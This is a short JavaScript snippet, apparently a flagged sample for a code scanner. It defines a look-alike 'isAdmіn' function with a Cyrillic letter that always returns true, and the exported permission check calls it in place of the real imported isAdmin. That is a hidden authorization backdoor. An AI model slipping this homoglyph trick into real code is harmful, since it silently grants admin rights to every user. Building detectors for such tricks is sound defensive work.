import { isAdmin } from "./roles.js";
function isAdmіn() { return true; } // gatehouse: flagged
export const may = (user) => isAdmіn(user);
